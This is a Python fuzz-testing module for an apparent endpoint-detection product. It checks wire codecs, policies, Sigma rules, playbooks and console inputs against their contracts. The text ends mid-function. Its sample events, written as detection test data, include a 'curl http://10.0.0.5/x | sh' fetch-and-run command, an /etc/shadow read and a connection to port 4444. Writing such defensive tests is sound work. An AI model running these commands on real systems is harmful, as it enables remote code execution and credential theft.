"""Fuzz targets: one function of bytes per input boundary, fed the way the
running hive or agent feeds it, each checking the boundary's contract:

* only the boundary's own error may escape (anything else is an actor that
  dies on hostile input, or a CLI that prints a traceback);
* what the boundary accepts, the next stage takes: a frame the router
  decodes is stored without SQLite refusing a value, a message survives
  encoding again, a policy that loads compiles into the kernel's maps, a
  rule or playbook that loads runs over events and alerts without error;
* each call returns within the target's time bound, in CPU seconds (a busy
  machine must not fail a run; a call that hangs without spinning is
  libFuzzer's ``-timeout``, in wall-clock seconds).

``TARGETS`` names them; ``run(name, data)`` calls one and raises
:class:`ContractBroken` (or the escaped error itself) when the contract does
not hold.  ``OPEN_BUGS`` lists what the targets found that is not fixed yet.

The project's modules are imported by the targets when first called, not
here: atheris instruments (for coverage) only what is imported after it
starts, and only what a target ``covers`` (instrumenting costs seconds).
"""

from __future__ import annotations

import atexit
import functools
import importlib
import itertools
import os
import shutil
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any


class ContractBroken(AssertionError):
    """A target's input made its boundary break its contract."""


@dataclass(frozen=True)
class Target:
    fn: Callable[[bytes], None]
    allowed: tuple[str, ...]
    """The boundary's own errors, as ``module.Name``: these may escape."""
    bound: float
    """CPU seconds one call may take."""
    covers: tuple[str, ...]
    """The modules whose code it reaches: atheris instruments these."""
    max_len: int = 4096
    """Longest input a fuzzer tries (a file wants more room than a frame)."""

    @functools.cached_property
    def errors(self) -> tuple[type[BaseException], ...]:
        return tuple(getattr(importlib.import_module(m), n) for m, _, n in (a.rpartition(".") for a in self.allowed))


# -- scratch files and a hive store -----------------------------------------------


def _scratch() -> Path:
    """Where targets write their files and store: the runner's folder, else one of our own."""
    given = os.environ.get("IMMUNE_FUZZ_SCRATCH")
    if given:
        return Path(given)
    made = Path(tempfile.mkdtemp(prefix="immune-fuzz-", dir="/dev/shm" if Path("/dev/shm").is_dir() else None))
    atexit.register(shutil.rmtree, made, True)
    return made


SCRATCH = _scratch()
AGENT = "fuzz-agent"
AGENT_KEY = "rq:rM>}U?@Lns47E1%kR.o@n%FcmmsL/@{H8]yf7"
TOKEN = "fuzz-token"
"""An enrollment frame with this token is redeemed with a live one."""
_calls = itertools.count()
_store: Any = None


def _hive_store() -> Any:
    """A store with one enrolled agent, made anew every few thousand calls
    so that a long run does not fill the disk."""
    from hive import Store

    global _store
    if _store is None or next(_calls) % 5000 == 0:
        if _store is not None:
            _store.close()
        for f in SCRATCH.glob("hive.db*"):
            f.unlink()
        _store = Store(SCRATCH / "hive.db")
        _store.enroll(AGENT, AGENT_KEY)
    return _store


def _file(data: bytes, name: str) -> Path:
    path = SCRATCH / name
    path.write_bytes(data)
    return path


def _decoded(codec: Any, data: bytes) -> Any:
    """``data`` decoded, or None when the codec refuses it (a DecodeError,
    its only error); what decodes must encode again to what decodes the same
    (bytes compared: NaN is not equal to itself)."""
    from actors import DecodeError

    try:
        msg = codec.decode(data)
    except DecodeError:
        return None
    again = codec.encode(msg)
    if codec.encode(codec.decode(again)) != again:
        raise ContractBroken(f"{type(msg).__name__} changes when encoded and decoded again")
    return msg


# -- the codecs as the hive and the agent build them -------------------------------


@functools.cache
def agent_codec() -> Any:
    """As the router decodes what agents send (hive/_actors.py router_actor),
    at the default ``hive.max_frame``."""
    import wire
    from actors import Codec
    from node import Config

    return Codec(wire.AgentMessage, max_size=Config().hive.max_frame)


@functools.cache
def hive_codec() -> Any:
    """As the agent's relay decodes what the hive sends."""
    import wire
    from actors import Codec

    return Codec(wire.HiveMessage)


@functools.cache
def enroll_codec() -> Any:
    """As the enrollment door decodes (hive/_actors.py enroll_actor)."""
    import wire
    from actors import Codec

    return Codec(wire.Enroll, max_size=4096)


# -- agent -> hive ----------------------------------------------------------------


def agent_message(data: bytes) -> None:
    """A frame from an enrolled agent, as the router decodes it, then stored
    as the store and registry store it: a value the wire contract accepts
    must never be one SQLite refuses."""
    import wire
    from hive import AgentSeen, Ingest

    msg = _decoded(agent_codec(), data)
    if msg is None:
        return
    store = _hive_store()
    if isinstance(msg, wire.EventBatch):
        # A stream of its own, so that the batch is new and really written.
        done = store.ingest([Ingest(agent=AGENT, stream=f"{msg.stream}#{next(_calls)}", seq=msg.seq,
                                    events=msg.events)])
        if done.refused:
            raise ContractBroken(f"a batch the wire accepts was refused by the store: {done.refused[0][1]}")
    elif isinstance(msg, (wire.Hello, wire.Heartbeat)):
        store.agents_seen([AgentSeen(
            agent=AGENT, time=time.time_ns(), hello=msg if isinstance(msg, wire.Hello) else None,
            heartbeat=msg if isinstance(msg, wire.Heartbeat) else None, address="127.0.0.1")])


def cluster_pack(data: bytes) -> None:
    """A message of the cluster's ingest or detection stream (a pack of
    batches, or one batch from a node without packing) as a store writer
    and a sentinel read it: only a message that is no batches at all is
    refused (``DecodeError``, counted by them); a bad batch in a pack costs
    itself only; the good ones pack again to the same batches, and the store
    takes them without refusing a value."""
    from actors import DecodeError
    from hive import Ingest
    from hive._actors import internal_codec
    from hive.cluster._pack import encode, unpack

    codec = internal_codec()
    try:
        got = unpack(codec, data, agents_only=True)
    except DecodeError:
        return
    again = unpack(codec, encode(codec, [raw for _, raw in got.batches]), agents_only=True)
    if again.bad or [codec.encode(b) for b, _ in again.batches] != [codec.encode(b) for b, _ in got.batches]:
        raise ContractBroken("a pack's batches change when packed again")
    # Streams of their own, so that every batch is new and really written.
    done = _hive_store().ingest([Ingest(agent=AGENT, stream=f"{b.stream}#{next(_calls)}", seq=b.seq, events=b.events)
                                 for b, _ in got.batches])
    if done.refused:
        raise ContractBroken(f"a batch a pack carried was refused by the store: {done.refused[0][1]}")


CORRELATIONS = """\
title: A base rule
id: 0a000000-0000-4000-8000-000000000001
name: base
logsource: {product: linux, category: process_creation}
detection: {selection: {Image|endswith: /tool}, condition: selection}
---
title: Counted by user and host
id: 0c000000-0000-4000-8000-000000000001
correlation: {type: event_count, rules: [base], group-by: [User, Agent], timespan: 60s, condition: {gte: 3}}
---
title: Distinct images
id: 0c000000-0000-4000-8000-000000000002
correlation: {type: value_count, rules: [base], group-by: [Agent], timespan: 60s, condition: {gte: 2, field: Image}}
---
title: Few in the window
id: 0c000000-0000-4000-8000-000000000003
correlation: {type: event_count, rules: [base], timespan: 60s, condition: {lt: 2}}
"""
"""A correlation of each kind a hit can reach: grouped by two fields, by one
with a counted field, and a settling window with no group."""


@functools.cache
def _correlating() -> Any:
    from hive.sigma import RuleEngine

    engine = RuleEngine(clock=time.monotonic, partitioned=True, max_groups=1000)
    report = engine.load(_file(CORRELATIONS.encode(), "correlations.yml"))
    if not report.ok:
        raise RuntimeError(report.format())
    return engine


def correlate_hit(data: bytes) -> None:
    """A message of a correlation partition as its owner takes it: a
    ``SigmaHit`` goes into its correlation's window, or is refused (None,
    counted by the owner) when the correlation is not loaded or the hit's
    group does not fit it; the same hit is also given to each loaded
    correlation, so that the fuzzer reaches the windows.  Nothing raises."""
    import msgspec

    from hive._actors import internal_codec
    from hive._messages import SigmaHit

    msg = _decoded(internal_codec(), data)
    if not isinstance(msg, SigmaHit):
        return
    engine = _correlating()
    for correlation in (msg.correlation, *(r.id for r in engine.rules.correlations)):
        out = engine.correlate(msgspec.structs.replace(msg, correlation=correlation))
        if out is not None and not isinstance(out, list):
            raise ContractBroken(f"correlate gave {type(out).__name__}")
    engine.routed()


POLICY_ACTIONS = ("block_connect", "block_exec", "isolate_host", "unisolate", "unblock")
"""The commands the target carries out: they change only the sensor's policy
(a kill, an evidence copy or a quarantine would act on this machine)."""
_executor: Any = None


class _Sensor:
    """What the agent's sensor does with a policy before the kernel gets it:
    compiles it into map entries and fanotify marks (kmod/_linux.py reload)."""

    def __init__(self) -> None:
        from kmod import Policy

        self.policy = Policy.default()

    def reload(self, policy: Any) -> None:
        _compile(policy)
        self.policy = policy


def _response() -> Any:
    """The agent's response executor over a stand-in sensor, made anew
    every few hundred commands (blocks pile up in its policy)."""
    from agent.response import Executor, SensorSlot

    global _executor
    if _executor is None or next(_calls) % 300 == 0:
        folder = SCRATCH / "agent"
        shutil.rmtree(folder, ignore_errors=True)
        slot = SensorSlot()
        slot.attach(_Sensor())
        _executor = Executor(folder, slot=slot, hive=["127.0.0.1"])
    return _executor


def hive_message(data: bytes) -> None:
    """A frame from the hive (or whoever took its place), as the agent
    decodes it; a command that changes the sensor's policy is carried out as
    the agent's executor does, which may refuse it but never fail inside."""
    msg = _decoded(hive_codec(), data)
    if getattr(msg, "action", None) in POLICY_ACTIONS:
        result = _response().execute(msg)
        if result.detail.startswith("internal error"):
            raise ContractBroken(f"{msg.action}: {result.detail}")


def enroll(data: bytes) -> None:
    """An enrollment frame from anyone with a CURVE key, decoded and redeemed
    as the enrollment door does: a refusal is a StoreError, nothing else."""
    req = _decoded(enroll_codec(), data)
    if req is None:
        return
    store = _hive_store()
    token = store.new_token() if req.token == TOKEN else req.token
    store.redeem_token(token, req.agent, AGENT_KEY if req.agent == AGENT else _key_of(req.agent))


def _key_of(agent: str) -> str:
    """A key of its own for each name (a key enrolled under another name is refused)."""
    import hashlib

    from zmq.utils import z85

    return z85.encode(hashlib.sha256(agent.encode("utf-8", "surrogatepass")).digest()).decode()


# -- sensor policy files ----------------------------------------------------------


def _compile(policy: Any) -> None:
    """What the sensor computes from a policy for the kernel and fanotify."""
    policy.open_prefixes()
    policy.open_dirs()
    policy.open_heads()
    policy.sock_entries(generation=7)
    policy.needs_exec_guard
    policy.open_marks()
    from kmod._files import FileFilters

    FileFilters(policy).heads()


_PATHS = ["/etc/shadow", "/tmp/x.sh", "/usr/bin/bash", "/", "/home/a/b/c/d/e/f", "/tmp/\u00e9\U0001f600"]


def policy(data: bytes) -> None:
    """A policy file as the agent loads it, then compiled into what the
    kernel side needs and matched as the decoder matches."""
    from kmod import Policy

    p = Policy.load(_file(data, "policy.toml"))
    _compile(p)
    for path in _PATHS:
        p.match_open(path)
        p.match_exec(path, lambda: "0" * 64)
        p.match_exec(path, lambda: None)
        p.match_open(path, pid=os.getpid())  # rules that select containers ask who this is
        p.match_exec(path, lambda: None, pid=os.getpid())
        p.varies_by_container("exec", path)
    p.match_setid("setuid", 0)
    p.match_fork()
    for path in _PATHS:
        p.match_file("rename", path, "/var/log/x")


# -- Sigma rules ------------------------------------------------------------------


@functools.cache
def events() -> tuple[Any, ...]:
    """One event of each kind an agent sends, with text worth matching."""
    import wire

    common = dict(agent=AGENT, pid=4242, ppid=1, uid=1000, comm="bash", image="/usr/bin/bash",
                  cmdline="bash -c curl http://10.0.0.5/x | sh", parent_image="/usr/sbin/sshd",
                  user="alice", cwd="/tmp", time=1_700_000_000_000_000_000)
    return (
        wire.Exec(filename="/tmp/\u00e9vil", argv=["bash", "-c", "curl http://10.0.0.5/x | sh", "a" * 300],
                  **common),
        wire.Open(path="/etc/shadow", flags=0, **common),
        wire.Connect(family=2, address="10.0.0.5", port=4444, **common),
        wire.SetId(call="setuid", old=1000, new=0, **common),
        wire.Fork(child_pid=4243, **common),
        wire.Exit(code=1, **common),
    )


def sigma(data: bytes) -> None:
    """A rule file as the sentinel loads it (a rule that cannot load is
    reported, never raised), then every event through the rules."""
    from hive.sigma import RuleEngine

    engine = RuleEngine(clock=time.monotonic)
    if engine.load(_file(data, "rule.yml")).loaded:
        for event in events():
            engine.process(event)
        engine.tick()


def rules_update(data: bytes) -> None:
    """A SigmaHQ release archive as ``immune-node rules update`` installs it:
    refused in one line with the set in use untouched, or installed as a set
    that loads; nothing is written outside the data folder's ``rules``."""
    from hive.sigma import UpdateError, load_rules, update_sigmahq

    folder = SCRATCH / "rules-update"
    rules = folder / "rules"
    link = rules / "sigmahq"
    before = os.readlink(link) if link.is_symlink() else None
    try:
        done = update_sigmahq(folder, _file(data, "release"))
    except UpdateError as e:
        if "\n" in str(e):
            raise ContractBroken(f"a refusal of more than one line: {e!r}") from None
        if (os.readlink(link) if link.is_symlink() else None) != before:
            raise ContractBroken(f"refused ({e}), yet the set in use changed") from None
    else:
        if os.readlink(link) != done.folder.name or not load_rules([link]).report.loaded:
            raise ContractBroken(f"installed {done}, but the set in use is not it or loads nothing")
    stray = sorted(p.name for p in rules.iterdir() if p.name not in (".update.lock", "sigmahq")
                   and not p.name.startswith("sigmahq-")) if rules.is_dir() else []
    if stray:
        raise ContractBroken(f"left beside the sets: {stray}")


# -- what the hive assigns to agents ----------------------------------------------------


@functools.cache
def _fleet_key() -> Any:
    from fleet import SigningKey

    return SigningKey.from_bytes(bytes(range(32)))


def bundle(data: bytes) -> None:
    """A bundle as an agent is offered it: refused in one line, or taken.
    The bytes are tried both as a signed bundle (the agent's input) and as
    a bundle the hive signs: what the hive signs, the agent takes back as
    it was."""
    import msgspec

    from fleet import Bundle, BundleRefused, Keeper

    keeper = Keeper(SCRATCH / "fleet", _fleet_key().public)
    try:
        keeper.offer(data)
    except BundleRefused as e:
        if "\n" in str(e):
            raise ContractBroken(f"a refusal of more than one line: {e!r}") from None
    try:
        made = msgspec.msgpack.decode(data, type=Bundle)
    except (msgspec.DecodeError, ValueError):
        return
    try:
        signed = _fleet_key().sign(made)
    except ValueError:  # above MAX_BUNDLE: the hive refuses to sign it
        return
    back = keeper.offer(signed)
    if msgspec.structs.replace(back, issued=0) != msgspec.structs.replace(made, issued=0):
        raise ContractBroken(f"signed {made!r}, the agent read {back!r}")


# -- what the sensor reads from the machine -------------------------------------------

CONTAINER_ID = "c" * 64
"""The container id the container_state target's runtime files are written for
(and "box" for the runtimes that name containers)."""
_RUNTIME_FILES = (
    f"var/lib/docker/containers/{CONTAINER_ID}/config.v2.json",
    f"run/containerd/io.containerd.runtime.v2.task/k8s.io/{CONTAINER_ID}/config.json",
    f"var/lib/containers/storage/overlay-containers/{CONTAINER_ID}/userdata/config.json",
    "run/runc/box/state.json", "run/crun/box/status", "var/lib/lxc/box/config", "run/systemd/machines/box",
)


def container_state(data: bytes) -> None:
    """/proc/PID/cgroup (before the first NUL) and a runtime's state files
    (the rest, written for every runtime) as kmod.Containers reads them: an
    answer or none, never an exception, and names the wire can carry."""
    from kmod import Containers

    cgroup, _, state = data.partition(b"\0")
    root = SCRATCH / "containers"
    shutil.rmtree(root, ignore_errors=True)
    for rel in _RUNTIME_FILES:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(state)
    (root / "proc/1").mkdir(parents=True)
    (root / "proc/1/cgroup").write_bytes(cgroup)
    (root / "cgroup2").mkdir()
    found = Containers(root=root, proc=root / "proc", cgroup2=root / "cgroup2").of_pid(1)
    if found is not None:
        for name in ("id", "runtime", "name", "image"):
            value = getattr(found, name)
            if not isinstance(value, str):
                raise ContractBroken(f"container {name} is {value!r}, not text")


def mountinfo(data: bytes) -> None:
    """A /proc/PID/mountinfo as the exec guard's marker parses it: lines that
    do not parse are skipped; every entry's device fits the kernel's 32 bits."""
    from kmod._mounts import parse_mountinfo

    for entry in parse_mountinfo(data.decode("utf-8", "surrogateescape")):
        if not 0 <= entry.dev < 2**32:
            raise ContractBroken(f"a device number out of the kernel's range: {entry}")


# -- playbooks and their templates -----------------------------------------------


@functools.cache
def alert() -> Any:
    """An alert that the shipped reverse-shell playbook acts on."""
    import wire

    return wire.Alert(id="alert-1", rule_id="139f073e-48c0-48af-af1c-71581a80d7da", title="fuzz",
                      level="critical", tags=["attack.t1059.004", "attack.execution"], agent=AGENT,
                      time=1_700_000_000_000_000_000, events=list(events()), incident="inc-1", detail="d")


def playbook(data: bytes) -> None:
    """A playbook file as the hive loads it; one that loads decides about an
    alert (conditions, templates, parameters) without raising."""
    from hive.playbook import PlaybookEngine, load_playbook

    pb = load_playbook(_file(data, "playbook.yml"))
    engine = PlaybookEngine([pb], clock=lambda: 1_700_000_000.0, variables={"webhook": "https://soc.example/h"},
                            protected=["127.0.0.1"])
    engine.on_alert(alert())


def template(data: bytes) -> None:
    """A template (before the first NUL) rendered against an alert whose
    event carries attacker text (after it), as a playbook step renders its
    parameters: a TemplateError or a value within ``MAX_RENDERED``."""
    import msgspec

    import wire
    from hive.playbook import Template, plain
    from hive.playbook._template import MAX_RENDERED

    text, _, value = data.partition(b"\0")
    compiled = Template(text.decode("utf-8", "replace"))
    said = value.decode("utf-8", "replace")
    event = wire.Exec(agent=AGENT, pid=4242, filename=said[:wire.MAX_PATH], cmdline=said[:wire.MAX_CMDLINE],
                      argv=[a[:wire.MAX_ARG] for a in said.split()[:wire.MAX_ARGV]])
    a = plain(msgspec.structs.replace(alert(), events=[event]))
    out = compiled.render({"alert": a, "event": a["events"][0], "vars": {"webhook": "https://soc.example/h"},
                           "playbook": {"id": "fuzz", "title": "fuzz"}})
    if isinstance(out, str) and len(out) > MAX_RENDERED:
        raise ContractBroken(f"rendered {len(out)} characters, more than MAX_RENDERED")


# -- the node's configuration file ----------------------------------------------


def config(data: bytes) -> None:
    """A configuration file as ``immune-node`` reads it: a ConfigError (one
    line) or a configuration whose values are all in their ranges."""
    from node import load_config

    cfg = load_config(_file(data, "immune.toml"))
    if not cfg.hive.enroll_listen:
        raise ContractBroken("hive.enroll_listen was not derived from hive.listen")


def outputs(data: bytes) -> None:
    """A configuration file with ``[[outputs]]`` tables: a ConfigError (one
    line), or outputs whose senders build (a CA file that cannot be read
    is the sender's one-line OutputError) and whose syslog messages are
    well-formed ASCII for every facility accepted."""
    from hive.outputs import FACILITIES, OutputError, make_sender, message
    from node import load_config

    cfg = load_config(_file(data, "outputs.toml"))
    for o in cfg.outputs:
        try:
            sender = make_sender(o, hostname="fuzz")
        except OutputError as e:
            if "\n" in str(e) or not o.ca:
                raise ContractBroken(f"output {o.name}: {e!r}") from None
            continue
        if o.kind == "syslog":
            if not (sender.host and 1 <= sender.port <= 65535):
                raise ContractBroken(f"syslog target {o.target!r} accepted without a host and port")
            msg = message({"event": {"kind": "alert"}, "log": {"level": "high"}}, facility=FACILITIES[o.facility],
                          hostname=o.name, time_ns=0, procid=1)
            if not msg.isascii() or not msg.startswith(b"<"):
                raise ContractBroken(f"syslog message {msg[:40]!r}")


# -- the AI model's answer -----------------------------------------------------------


def ai_answer(data: bytes) -> None:
    """An HTTP answer's body from the chat-completions endpoint, as the hive's
    ai actor reads it: a TriageError (one line), or a verdict within the
    schema that the store takes as JSON."""
    import json
    import re

    from hive.ai import SEVERITIES, parse_answer

    verdict, model = parse_answer(data)
    if verdict.severity not in SEVERITIES or not 0 <= verdict.confidence <= 1 or not verdict.explanation:
        raise ContractBroken(f"verdict out of the schema: {verdict!r}")
    if any(not re.fullmatch(r"T[0-9]{4}(\.[0-9]{3})?", t) for t in verdict.techniques):
        raise ContractBroken(f"techniques {verdict.techniques!r}")
    if len(model) > 128 or not model.isprintable():
        raise ContractBroken(f"model {model!r}")
    import msgspec

    json.dumps(msgspec.to_builtins(verdict), allow_nan=False)  # what Store.add_triage writes


# -- the console's query parameters ----------------------------------------------


def console_query(data: bytes) -> None:
    """A query string as the console's pages and API get it (Starlette's
    parse of the raw bytes): a QueryError (one line), or filters that the
    store then runs, alerts and events alike, without a store error."""
    from urllib.parse import parse_qsl

    from hive.console import _read as read

    params = dict(parse_qsl(data.decode("latin-1"), keep_blank_values=True))
    store = _hive_store()
    errors = 0
    for parse, query in ((read.alert_query, read.alerts), (read.event_query, read.events)):
        try:
            q = parse(params)
        except read.QueryError as e:
            if "\n" in str(e):
                raise ContractBroken(f"a QueryError of more than one line: {e!r}") from None
            errors += 1
            continue
        page = query(store, q)
        if len(page.items) > q.limit:
            raise ContractBroken(f"a page of {len(page.items)} items, more than the limit {q.limit}")
    if errors == 2:
        raise read.QueryError("neither filter takes these parameters")


def console_decision(data: bytes) -> None:
    """An approve or deny request's JSON body: an ApiError (400, one line) or
    a reason within its bound."""
    from hive.console import _api

    try:
        d = _api.parse_decision(data)
    except _api.ApiError as e:
        if e.status != 400 or "\n" in str(e):
            raise ContractBroken(f"a refusal that is not one 400 line: {e.status} {e!r}") from None
        raise
    if len(d.why) > _api.MAX_WHY:
        raise ContractBroken(f"a reason of {len(d.why)} characters accepted")


def console_action(data: bytes) -> None:
    """An operator's own action, NUL-separated: the JSON body of POST
    /api/actions, then the urlencoded form of POST /actions.  Each is an
    ApiError (one 400 line), or an action the hive's checks accept, recorded
    for an enrolled agent, whose command the agent's decoding takes."""
    from hive.console import _api
    from hive.console._actions import manual_from_form
    from hive.console._auth import BadRequest, parse_form
    from hive.playbook import Records, command

    body, _, form = data.partition(b"\0")
    records = Records(_hive_store().db)

    def one(read: Callable[[], Any]) -> None:
        try:
            m = read()
            a = records.run(m.action, m.agent, m.params(), ttl=m.ttl, by="fuzz", why=m.why, alert=m.alert,
                            protected=["127.0.0.1", "10.0.0.1"])
        except (ValueError, BadRequest) as e:
            if "\n" in str(e):
                raise ContractBroken(f"a refusal of more than one line: {e!r}") from None
            raise _api.ApiError(400, str(e)) from None
        if a.agent != AGENT or a.state != "requested":
            raise ContractBroken(f"recorded {a.state} for agent {a.agent!r}")
        command(a.action, a.params, id=a.id, ttl=a.ttl)  # what the agent decodes: it must take it

    errors: list[Exception] = []
    for read in (lambda: _api.parse_manual(body),
                 lambda: manual_from_form(parse_form(form, "application/x-www-form-urlencoded"))):
        try:
            one(read)
        except _api.ApiError as e:
            if e.status != 400:
                raise ContractBroken(f"a refusal that is not a 400: {e.status} {e!r}") from None
            errors.append(e)
    if len(errors) == 2:
        raise errors[0]


def console_admin(data: bytes) -> None:
    """An admin's change of a user or a token: ``VERB TARGET`` on the first
    line, then the urlencoded form.  A BadRequest (one line), or a change
    whose name, role and password ``Users`` takes as they are."""
    from hive.console._admin import admin_change
    from hive.console._auth import ALL_ROLES, BadRequest, parse_form
    from hive.console._secrets import check_password
    from hive.console._users import NAME

    head, _, body = data.partition(b"\n")
    verb, _, target = head.decode("latin-1").partition(" ")
    form = parse_form(body, "application/x-www-form-urlencoded")
    try:
        c = admin_change(verb, target, form)
    except ValueError as e:
        if "\n" in str(e):
            raise ContractBroken(f"a refusal of more than one line: {e!r}") from None
        raise BadRequest(400, str(e)) from None
    if c.verb == "revoke":
        if len(c.token) != 12:
            raise ContractBroken(f"token id {c.token!r} accepted")
        return
    if not NAME.fullmatch(c.name):
        raise ContractBroken(f"user name {c.name!r} accepted")
    if c.verb in ("add", "role") and c.role not in ALL_ROLES:
        raise ContractBroken(f"role {c.role!r} accepted")
    if c.verb in ("add", "password"):
        check_password(c.password)


# -- what a browser or an API client sends the console -------------------------------


def console_request(data: bytes) -> None:
    """The parts of a request the console reads before it knows who sends it,
    NUL-separated: an Authorization header, a Cookie header, a login form
    body.  Each is refused with a 4xx ``BadRequest`` or read into what the
    next step takes: a bearer token of b64token characters, a session id
    only if well-formed, form fields as text, and a ``next`` that stays on
    this site."""
    import re

    from hive.console._auth import SESSION_COOKIE, BadRequest, bearer_token, cookie_value, parse_form, safe_next
    from hive.console._secrets import is_session_id, split_token

    authorization, _, rest = data.partition(b"\0")
    cookie, _, body = rest.partition(b"\0")
    try:
        token = bearer_token(authorization.decode("latin-1"))
        if not re.fullmatch(r"[A-Za-z0-9\-._~+/]+=*", token):
            raise ContractBroken(f"bearer token {token[:40]!r} has characters outside b64token")
        split_token(token)
    except BadRequest as e:
        if e.status != 401:
            raise ContractBroken(f"a bad Authorization header got {e.status}, not 401") from None
    sid = cookie_value(cookie.decode("latin-1"), SESSION_COOKIE)
    if sid is not None and is_session_id(sid) and len(sid) != 43:
        raise ContractBroken(f"session id of {len(sid)} characters accepted")
    try:
        form = parse_form(body, "application/x-www-form-urlencoded")
    except BadRequest as e:
        if e.status not in (400, 413):
            raise ContractBroken(f"a bad form got {e.status}") from None
        return
    if not all(isinstance(k, str) and isinstance(v, str) for k, v in form.items()):
        raise ContractBroken("a form field is not text")
    target = safe_next(form.get("next"))
    if not target.startswith("/") or target.startswith(("//", "/\\")):
        raise ContractBroken(f"next {target[:60]!r} leaves the site")


def profile(data: bytes) -> None:
    """A profile's body as a ``wire.Profile`` event brings it to the hive:
    decoded as ``immune-node profile show`` does, and what decodes makes a
    proposal that loads as a sensor policy, and a learner that holds what
    it was given."""
    from agent._profile import Learner, decode_profile
    from node._profile import propose

    try:
        p = decode_profile(data)
    except ValueError:
        return
    lr = Learner(p)
    for kind, items in p.items.items():
        for item in items:
            if item.partition("\t")[0] == kind and not lr.holds(item):
                raise ContractBroken(f"a profile does not hold its own item {item[:80]!r}")
    propose(p, "block")  # a PolicyError here: a proposal that would not load


_WIRE = ("wire", "actors._codec")
_YAML = ("hive._datafile", "hive._regex", "yaml")
def herd_bundle(data: bytes) -> None:
    """What a peer sends (a STIX bundle, a TAXII envelope, a MISP feed),
    checked as the herd actor checks it, with a key pinned and without:
    refused in one line, or indicators that are in force, within the cap,
    kept by the store, and that become a block an agent's decoding takes."""
    from hive.herd import HerdError, Intel, check_all, parse_document
    from hive.herd._stix import MATCHABLE
    from hive.playbook import command

    try:
        objs = parse_document(data)
    except HerdError as e:
        if "\n" in str(e):
            raise ContractBroken(f"a refusal of more than one line: {e!r}") from None
        raise
    now, cap = time.time(), 90 * 86400.0
    for key in (_fleet_key().public, None):
        good, refused, _ = check_all(objs, key=key, now=now, max_age=cap)
        for r in refused:
            if "\n" in r.reason:
                raise ContractBroken(f"a refusal of more than one line: {r.reason!r}")
        for p in good:
            if p.kind not in MATCHABLE or not (p.revoked or now < p.valid_until <= now + cap):
                raise ContractBroken(f"took {p!r}")
            action, params = ("block_exec", {"sha256": p.value}) if p.kind == "sha256" \
                else ("block_connect", {"address": p.value})
            command(action, params, id="fuzz", ttl=min(p.valid_until - now, 365 * 86400.0) if not p.revoked else 0)
        Intel(_hive_store().db).take("fuzz", "enforce", good, now=now)


TARGETS: dict[str, Target] = {
    "agent_message": Target(agent_message, (), 1.0, (*_WIRE, "hive._store", "hive._messages")),
    "correlate_hit": Target(correlate_hit, (), 1.0, (*_WIRE, "hive.sigma._engine", "hive.correlate._sigma",
                                                        "hive._messages")),
    "cluster_pack": Target(cluster_pack, (), 1.0, (*_WIRE, "hive.cluster._pack", "hive._messages", "hive._store"),
                           max_len=16384),
    "hive_message": Target(hive_message, (), 1.0, (*_WIRE, "agent.response._policy", "agent.response._executor",
                                                    "kmod._policy")),
    "enroll": Target(enroll, ("hive.StoreError",), 1.0, (*_WIRE, "hive._store")),
    "policy": Target(policy, ("kmod.PolicyError",), 2.0, ("kmod._policy", "tomllib", "ipaddress"), max_len=16384),
    "sigma": Target(sigma, ("hive.sigma.RuleError",), 5.0, ("hive.sigma", "hive.correlate", "sigma", *_YAML),
                    max_len=16384),
    "rules_update": Target(rules_update, (), 5.0, ("hive.sigma._update", "zipfile", "tarfile", "gzip", *_YAML),
                           max_len=16384),
    "playbook": Target(playbook, ("hive.playbook.PlaybookError",), 2.0, ("hive.playbook", "ipaddress", *_YAML),
                       max_len=16384),
    "template": Target(template, ("hive.playbook.TemplateError",), 1.0, ("hive.playbook._template", "hive._regex"),
                       max_len=2048),
    "config": Target(config, ("node.ConfigError",), 1.0, ("node._config", "tomllib"), max_len=8192),
    "outputs": Target(outputs, ("node.ConfigError",), 1.0, ("node._config", "hive.outputs._syslog",
                                                          "hive.outputs._actor", "urllib.parse"), max_len=8192),
    "console_request": Target(console_request, (), 1.0, ("hive.console._auth", "hive.console._secrets",
                                                         "urllib.parse"), max_len=8192),
    "container_state": Target(container_state, (), 1.0, ("kmod._containers", "json"), max_len=8192),
    "mountinfo": Target(mountinfo, (), 1.0, ("kmod._mounts",)),
    "bundle": Target(bundle, (), 1.0, ("fleet._bundle", "fleet._keeper"), max_len=16384),
    "ai_answer": Target(ai_answer, ("hive.ai._verdict.TriageError",), 1.0, ("hive.ai._verdict",), max_len=8192),
    "profile": Target(profile, (), 2.0, ("agent._profile", "node._profile", "kmod._policy", "ipaddress"),
                      max_len=16384),
    "herd_bundle": Target(herd_bundle, ("hive.herd.HerdError",), 2.0, ("hive.herd._stix", "hive.herd._intel", "json"),
                          max_len=16384),
    "console_query": Target(console_query, ("hive.console._read.QueryError",), 1.0, ("hive.console._read",)),
    "console_decision": Target(console_decision, ("hive.console._api.ApiError",), 1.0, ("hive.console._api",)),
    "console_action": Target(console_action, ("hive.console._api.ApiError",), 1.0,
                             ("hive.console._api", "hive.console._actions", "hive.playbook._actions",
                              "hive.playbook._records")),
    "console_admin": Target(console_admin, ("hive.console._auth.BadRequest",), 1.0,
                            ("hive.console._admin", "hive.console._auth", "hive.console._users")),
}


@dataclass(frozen=True)
class OpenBug:
    """A contract break a target found that is not fixed yet: its reproducer
    in ``regressions/<target>/<name>``, what escapes, whose file to fix."""

    target: str
    name: str
    error: str
    """The escaping exception's type name and a part of its message, as ``Type: text``."""
    owner: str


OPEN_BUGS: tuple[OpenBug, ...] = ()


CORPUS = Path(__file__).resolve().parent / "corpus"


def prepare(name: str) -> None:
    """Import what target ``name`` uses and build what it builds once, by
    running it over its seeds (so that no input is charged for it)."""
    target = TARGETS[name]
    target.errors
    for seed in [b"", *(f.read_bytes() for f in sorted((CORPUS / name).iterdir()))]:
        try:
            target.fn(seed)
        except Exception:  # noqa: BLE001  (the seeds are checked by test_fuzz.py)
            pass


def run(name: str, data: bytes, tolerate_open_bugs: bool = False) -> None:
    """Call target ``name`` on ``data`` and check its contract.  With
    ``tolerate_open_bugs``, an error that matches an open bug of this target
    passes, so that a long run goes on to find new ones."""
    target = TARGETS[name]
    start = time.thread_time()
    try:
        target.fn(data)
    except Exception as e:
        own = isinstance(e, target.errors) and not isinstance(e, ContractBroken)
        if not own and not (tolerate_open_bugs and any(b.target == name and _matches(b.error, e)
                                                       for b in OPEN_BUGS)):
            raise
    took = time.thread_time() - start
    if took > target.bound:
        raise ContractBroken(f"{name}: one call took {took:.2f} CPU seconds, more than its bound of {target.bound}")


def _matches(error: str, e: BaseException) -> bool:
